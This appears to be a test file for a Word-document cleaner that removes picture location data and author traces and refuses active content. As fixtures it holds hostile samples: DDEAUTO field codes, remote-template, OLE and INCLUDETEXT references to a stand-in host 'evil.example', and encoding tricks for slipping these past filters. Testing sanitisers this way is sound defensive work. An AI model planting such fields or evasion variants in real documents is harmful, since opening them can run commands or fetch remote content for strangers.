/** A Word file as it is kept: no place in any picture, whatever its name, and nobody who wrote in it. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import sharp from 'sharp'
import { madeUpCopy } from '../made-up.testing.ts'
import { survivorCopy } from '../packs/survivor-copy.ts'
import { renderWord } from '../word/render-word.ts'
import { readZip, type ZipFile } from '../zip/read-zip.ts'
import { writeZip } from '../zip/write-zip.ts'
import { cleanWord } from './clean-word.ts'
import { stripJpeg } from './strip-picture.ts'

const limits = { files: 100, bytes: 50_000_000 }
const plain = await renderWord(survivorCopy(madeUpCopy))

function partsOf(word: Uint8Array): readonly ZipFile[] {
  const read = readZip(Buffer.from(word), limits)
  assert.ok('files' in read)
  return read.files
}

function wordWith(...parts: readonly (readonly [string, string | Buffer])[]): Buffer {
  const named = new Set(parts.map(([name]) => name))
  return writeZip([
    ...partsOf(plain).filter(({ name }) => !named.has(name)),
    ...parts.map(([name, bytes]) => ({ name, bytes: Buffer.from(bytes) })),
  ])
}

async function cleaned(word: Buffer): Promise<readonly ZipFile[]> {
  const clean = await cleanWord(word)
  assert.ok('bytes' in clean, JSON.stringify(clean))
  return partsOf(clean.bytes)
}

const canary = 'MadeUpPlace'
const telling = {
  IFD0: { Make: canary, ImageDescription: canary },
  IFD3: { GPSAreaInformation: canary },
}
const canvas = { create: { width: 40, height: 20, channels: 3, background: '#933' } } as const
const picture = () => sharp(canvas).withExif(telling)

/** One byte more before the marker of the segment that tells: allowed, and drawn by everybody. */
function withFill(jpeg: Buffer): Buffer {
  const at = jpeg.indexOf(Buffer.from('ffe1', 'hex'))
  assert.ok(at > 0)
  return Buffer.concat([jpeg.subarray(0, at), Buffer.from([0xff]), jpeg.subarray(at)])
}

test('a picture in a Word file keeps no place, whatever its kind, its name or its bytes', async () => {
  const jpeg = await picture().jpeg().toBuffer()
  const gifComment = Buffer.concat([
    Buffer.from([0x21, 0xfe, canary.length]),
    Buffer.from(canary),
    Buffer.from([0]),
  ])
  const gif = await sharp(canvas).gif().toBuffer()
  const rows: readonly (readonly [string, Buffer])[] = [
    ['image1.jpeg', jpeg],
    ['image1.jpg', withFill(jpeg)],
    ['image1.jfif', jpeg],
    ['image1.jpe', withFill(jpeg)],
    ['image1.anything', jpeg],
    ['image1.png', await picture().png().toBuffer()],
    ['image1.tiff', Buffer.concat([await picture().tiff().toBuffer(), Buffer.from(canary)])],
    ['image1.webp', await picture().webp().toBuffer()],
    ['image1.gif', Buffer.concat([gif.subarray(0, -1), gifComment, gif.subarray(-1)])],
    ['image1.png', Buffer.concat([await sharp(canvas).png().toBuffer(), Buffer.from(canary)])],
  ]
  for (const [name, bytes] of rows) {
    assert.ok(bytes.includes(canary), `${name}: the plant is there`)
    const after = await cleaned(wordWith([`word/media/${name}`, bytes]))
    assert.ok(!Buffer.concat(after.map((part) => part.bytes)).includes(canary), name)
    const kept = after.find((part) => part.name === `word/media/${name}`)
    const { width, height, format } = await sharp(kept?.bytes).metadata()
    assert.deepEqual([width, height], [40, 20], name)
    assert.equal(format, (await sharp(bytes).metadata()).format, name)
  }
})

test('a drawing that cannot be drawn anew is not kept, and neither is a broken picture', async () => {
  const rows: readonly (readonly [string, string | Buffer, string])[] = [
    ['image1.emf', Buffer.from(`01000000${'00'.repeat(40)}`, 'hex'), 'hides-in-drawing'],
    ['image1.wmf', Buffer.from('d7cdc69a0000', 'hex'), 'hides-in-drawing'],
    [
      'image1.svg',
      `<svg xmlns="http://www.w3.org/2000/svg"><desc>${canary}</desc></svg>`,
      'hides-in-drawing',
    ],
    ['image1.bmp', `BM${canary}`, 'hides-in-drawing'],
    ['image1.png', canary, 'hides-in-drawing'],
    ['image1.jpg', Buffer.from('ffd8ffe000104a464946', 'hex'), 'damaged'],
  ]
  for (const [name, bytes, code] of rows) {
    assert.deepEqual(await cleanWord(wordWith([`word/media/${name}`, bytes])), {
      refused: { code },
    })
  }
})

const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const by = 'w:author="MadeUpAuthor" w:initials="MadeUpInitials" w:date="2031-02-03T04:05:06Z"'

test('whoever wrote in it, and when, is in no part of it any more; what they wrote is', async () => {
  const body = (inside: string) => `<?xml version="1.0"?><w:body ${w}>${inside}</w:body>`
  const word = wordWith(
    ['word/comments.xml', body(`<w:comment w:id="1" ${by}><w:t>Their comment</w:t></w:comment>`)],
    [
      'word/footnotes.xml',
      body(`<w:ins w:x=">" ${by.replaceAll('"', "'")}><w:t>Added below</w:t></w:ins>`),
    ],
    [
      'word/header1.xml',
      body(`<x:del xmlns:x="y" ${by.replaceAll('w:', 'x:')}><w:t>Above</w:t></x:del>`),
    ],
    ['word/people.xml', '<w15:people><w15:person w15:author="MadeUpAuthor"/></w15:people>'],
    ['word/more-people.xml', '<a:p><a:i a:providerId="MadeUpAD" a:userId="MadeUpAuthor"/></a:p>'],
    [
      'word/settings.xml',
      body(
        `<w:rsids><w:rsid w:val="00MadeUp"/></w:rsids><w:docVars><w:docVar w:name="a" w:val="MadeUpValue"/></w:docVars><w:zoom w:percent="100"/>`,
      ),
    ],
    [
      'customXml/item1.xml',
      '<CoverPageProperties><CompanyAddress>MadeUpAddress</CompanyAddress></CoverPageProperties>',
    ],
    [
      'word/document.xml',
      body(
        `<w:p w:rsidR="00MadeUp"><pic:cNvPr id="1" name="MadeUpHome.jpg"/><w:ins ${by}><w:t>It says w:author="as text"</w:t></w:ins></w:p>`,
      ),
    ],
    [
      'elsewhere/props.xml',
      '<cp:coreProperties xmlns:cp="x"><dc:creator>MadeUpAuthor</dc:creator></cp:coreProperties>',
    ],
    [
      'word/_rels/document.xml.rels',
      '<Relationships><Relationship Id="a" Type="x/customXml" Target="../customXml/item1.xml"/><Relationship Id="b" Type="x/comments" Target="comments.xml"></Relationship></Relationships>',
    ],
  )
  const after = await cleaned(word)
  const all = Buffer.concat(after.map(({ bytes }) => bytes)).toString('utf8')
  assert.doesNotMatch(all, /MadeUp|2031-02-03|customXml/)
  for (const said of [
    'Their comment',
    'Added below',
    'Above',
    'It says w:author="as text"',
    'percent="100"',
  ]) {
    assert.ok(all.includes(said), said)
  }
  assert.ok(all.includes('Target="comments.xml"></Relationship>'))
  assert.deepEqual(
    after.filter(({ name }) => /people\.xml|customXml/.test(name)).map(({ name }) => name),
    ['word/more-people.xml'],
  )
})

test('nothing that fetches or runs when a Word file is opened is kept, however it is written', async () => {
  const home = 'https://evil.example'
  const rels = (inside: string) => `<Relationships xmlns="r">${inside}</Relationships>`
  const image = (more: string) =>
    rels(`<Relationship Id="a" Type="x/image" Target="${home}" ${more}/>`)
  const prefixed = (inside: string) =>
    `<p:Relationships xmlns:p='r'><p:Relationship ${inside}/></p:Relationships>`
  const reaching = [
    prefixed(`Id="a" Type="x/image" Target="${home}" TargetMode="External"`),
    image('TargetMode="Extern&#97;l"'),
    image('TargetMode="&#x45;xternal"'),
    image('Note="r>1" TargetMode="External"'),
    image("TargetMode = 'external'"),
    image('TargetMode="Internal" p:TargetMode="External"'),
    rels(`<Relationship Type="x/image" Target="${home}/hyperlink" TargetMode="External"/>`),
    rels(`<!-- " --><Relationship Type="x/image" Target="${home}" TargetMode="External"/>`),
    rels(`<Relationship Target="${home}" TargetMode="External"/>`),
  ]
  const acting = [
    prefixed(`Id='a' Type='x/attachedTemplate' Target='${home}' TargetMode='External'`),
    rels('<Relationship Type="x/attached&#84;emplate" Target="a"/>'),
    rels("<Relationship Type = 'x/oleObject ' Target='a'/>"),
  ]
  const fields = [
    '<q:instrText>DDEAUTO cmd</q:instrText>',
    '<q:instrText xml:space="a>b">D<!-- -->D</q:instrText><q:t>seen</q:t><q:instrText>E c</q:instrText>',
    '<q:instrText>&#68;DE</q:instrText>',
    '<q:instrText><![CDATA[DDE]]></q:instrText>',
    '<q:delInstrText>DDEAUTO</q:delInstrText>',
    `<w:instrText>INCLUDE</w:instrText><w:instrText>PICTURE "${home}" \\d</w:instrText>`,
    `<w:fldSimple w:instr='INCLUDETEXT "${home}"'/>`,
    `<q:fldSimple q:instr=' includ&#69;picture &quot;${home}&quot;'/>`,
    `<w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText> IMPORT "${home}"</w:instrText>`,
  ]
  const unreadable = ['<w:t>&#x110000;</w:t>', '<w:t>&#0;</w:t>', '<w:t a="></w:t>']
  const rows = [
    ...reaching.map((text) => ['word/_rels/a.xml.rels', text, 'reaches-outside'] as const),
    ...acting.map((text) => ['word/_rels/a.xml.rels', text, 'active-content'] as const),
    ...fields.map((text) => ['word/a.xml', `<w:p>${text}</w:p>`, 'active-content'] as const),
    ...unreadable.map((text) => ['word/a.xml', text, 'damaged'] as const),
    ['word/_rels/a.xml.rels', image('TargetMode="&#99999999999;"'), 'damaged'] as const,
  ]
  const kept: string[] = []
  for (const [name, text, code] of rows) {
    const came = await cleanWord(wordWith([name, text]))
    if (!('refused' in came) || came.refused.code !== code) kept.push(`${code}: ${text}`)
  }
  assert.deepEqual(kept, [])
})

test('an ordinary link stays, though its words would be a field elsewhere', async () => {
  const link = `<w:instrText> HYPERLINK "https://example.org/important/import" </w:instrText>`
  const after = await cleaned(
    wordWith(
      ['word/a.xml', `<w:p><w:fldChar w:fldCharType="begin"/>${link}<w:t>INCLUDETEXT</w:t></w:p>`],
      [
        'word/_rels/a.xml.rels',
        `<Relationships><Relationship Type='x/hyperlink' Target="https://example.org/?a&amp;b" TargetMode="External"/><Relationship Type="x/image" Target="media/a.png" TargetMode="Internal"/></Relationships>`,
      ],
    ),
  )
  assert.ok(after.some(({ name }) => name === 'word/_rels/a.xml.rels'))
})

test('a fill byte before a marker hides nothing from whoever only takes segments out', async () => {
  const filled = withFill(await picture().jpeg().toBuffer())
  assert.ok(!stripJpeg(filled).includes(canary))
})
